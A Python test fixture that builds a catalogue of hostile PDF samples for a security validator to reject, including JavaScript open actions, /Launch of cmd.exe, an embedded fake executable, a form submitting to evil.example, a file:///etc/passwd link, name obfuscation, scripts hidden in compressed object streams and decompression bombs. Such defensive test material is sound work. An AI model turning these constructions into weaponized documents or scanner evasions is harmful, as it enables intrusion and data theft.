"""PDFs that nobody means well with, by what is wrong with each; none of them may be taken."""

import struct
import zlib
from typing import Any

from pypdf.generic import ArrayObject, DictionaryObject, NumberObject, StreamObject

from tests.security.good_files import name, pdf, squeezed, text

SCRIPT = b"<script>alert(document.cookie)</script>"
EXE = b"MZ\x90\x00" + bytes(58) + b"PE\x00\x00" + bytes(2000)
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"


def _catalog(key: str, value: Any) -> Any:
    return lambda writer: writer.root_object.update({name(key): value})


def _action(**of: Any) -> DictionaryObject:
    return DictionaryObject({name(f"/{key}"): value for key, value in of.items()})


def _first_page(key: str, value: Any) -> Any:
    return lambda writer: writer.pages[0].update({name(key): value})


def _note(**of: Any) -> Any:
    note = _action(Type=name("/Annot"), Rect=ArrayObject([NumberObject(0)] * 4), **of)
    return _first_page("/Annots", ArrayObject([note]))


def _named(key: str) -> Any:
    return _catalog("/Names", DictionaryObject({name(key): DictionaryObject({name("/Names"): ArrayObject()})}))


def _with_file(writer: Any) -> None:
    writer.add_attachment("virus.exe", EXE)


def _script(**more: Any) -> DictionaryObject:
    return _action(S=name("/JavaScript"), JS=text("app.alert(1)"), **more)


def _bomb(writer: Any) -> None:
    stream = StreamObject()
    stream._data = squeezed(400)
    stream[name("/Filter")] = name("/FlateDecode")
    writer.pages[0][name("/Contents")] = writer._add_object(stream)


def _hidden_names(data: bytes) -> bytes:
    """The same PDF, with its names written in the other way that PDF knows."""
    return data.replace(b"/JavaScript", b"/J#61vaScr#69pt").replace(b"/JS ", b"/J#53 ")


def _in_a_pressed_object() -> bytes:
    """A script in objects that are pressed together, where a search for words does not find it."""
    inside = b"<</S/JavaScript/JS(app.alert(1))>>"
    press = zlib.compress(b"4 0 " + inside)
    objects = [
        b"1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj ",
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj ",
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj ",
        b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(press) + press
        + b"\nendstream endobj ",
    ]  # fmt: skip
    body, places = b"%PDF-1.5\n", {}
    for number, one in zip((1, 2, 3, 5), objects, strict=True):
        places[number] = len(body)
        body += one
    in_use = {number: b"\x01" + struct.pack("!I", place)[1:] + b"\0" for number, place in places.items()}
    in_use[6] = b"\x01" + struct.pack("!I", len(body))[1:] + b"\0"
    table = b"".join([b"\0\0\0\0\xff", in_use[1], in_use[2], in_use[3], b"\x02\0\0\x05\0", in_use[5], in_use[6]])
    start = len(body)
    head = b"6 0 obj<</Type/XRef/Size 7/W[1 3 1]/Root 1 0 R/Length %d>>stream\n" % len(table)
    return body + head + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % start


def _deep() -> bytes:
    nest = b"[" * 50_000 + b"]" * 50_000
    return pdf().replace(b"/Kids", b"/Deep " + nest + b" /Kids", 1)


def _in_a_ring() -> bytes:
    """A tree of pages that is its own child."""
    body = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
    return body + b"trailer<</Root 1 0 R/Size 3>>\nstartxref\n0\n%%EOF"


def _many_pages(count: int) -> bytes:
    """So many pages, few bytes each."""
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    body = bytearray(b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count ")
    body += b"%d/Kids[" % count + kids + b"]>>endobj\n"
    for number in range(3, count + 3):
        body += b"%d 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n" % number
    return bytes(body) + b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n0\n%%%%EOF" % (count + 3)


def _locked_pdf() -> bytes:
    return pdf(change=lambda writer: writer.encrypt("geheim", algorithm="AES-256"))


BAD_PDF: dict[str, bytes] = {
    "a script when it opens": pdf(change=_catalog("/OpenAction", _script())),
    "a script by its name": pdf(change=_named("/JavaScript")),
    "a script in other writing": _hidden_names(pdf(change=_catalog("/OpenAction", _script()))),
    "a script in pressed objects": _in_a_pressed_object(),
    "a script when a page opens": pdf(change=_first_page("/AA", _action(O=_script()))),
    "a script in a field": pdf(change=_note(Subtype=name("/Widget"), AA=_action(K=_script()))),
    "a script in what comes next": pdf(change=_catalog("/OpenAction", _action(
        S=name("/GoTo"), D=ArrayObject(), Next=ArrayObject([_script()])))),
    "a program to start": pdf(change=_catalog("/OpenAction", _action(S=name("/Launch"), F=text("cmd.exe")))),
    "a program behind a link": pdf(change=_note(Subtype=name("/Link"), A=_action(S=name("/Launch"), F=text("a.exe")))),
    "another file": pdf(change=_with_file),
    "another file on a page": pdf(change=_note(Subtype=name("/FileAttachment"))),
    "files by their name": pdf(change=_named("/EmbeddedFiles")),
    "a form that sends itself": pdf(change=_note(Subtype=name("/Link"), A=_action(
        S=name("/SubmitForm"), F=text("https://evil.example")))),
    "a form of XFA": pdf(change=_catalog("/AcroForm", _action(XFA=ArrayObject(), Fields=ArrayObject()))),
    "a link to a script": pdf(change=_note(Subtype=name("/Link"), A=_action(
        S=name("/URI"), URI=text("javascript:alert(1)")))),
    "a link to this machine": pdf(change=_note(Subtype=name("/Link"), A=_action(
        S=name("/URI"), URI=text("file:///etc/passwd")))),
    "a document elsewhere": pdf(change=_catalog("/OpenAction", _action(S=name("/GoToR"), F=text("//evil/x.pdf")))),
    "a film": pdf(change=_note(Subtype=name("/RichMedia"))),
    "a model": pdf(change=_note(Subtype=name("/3D"))),
    "a sound": pdf(change=_note(Subtype=name("/Sound"))),
    "a screen": pdf(change=_note(Subtype=name("/Screen"), A=_action(S=name("/Rendition")))),
    "a bomb on its page": pdf(change=_bomb),
    "a password": _locked_pdf(),
    "a hundred thousand pages": _many_pages(100_000),
    "a ring of pages": _in_a_ring(),
    "a deep hole": _deep(),
    "half of it": pdf()[:300],
    "only its first line": b"%PDF-1.7\n",
    "a program behind its first line": b"%PDF-1.7\n" + EXE,
    "a page behind its first line": b"%PDF-1.7\n" + HTML,
}  # fmt: skip
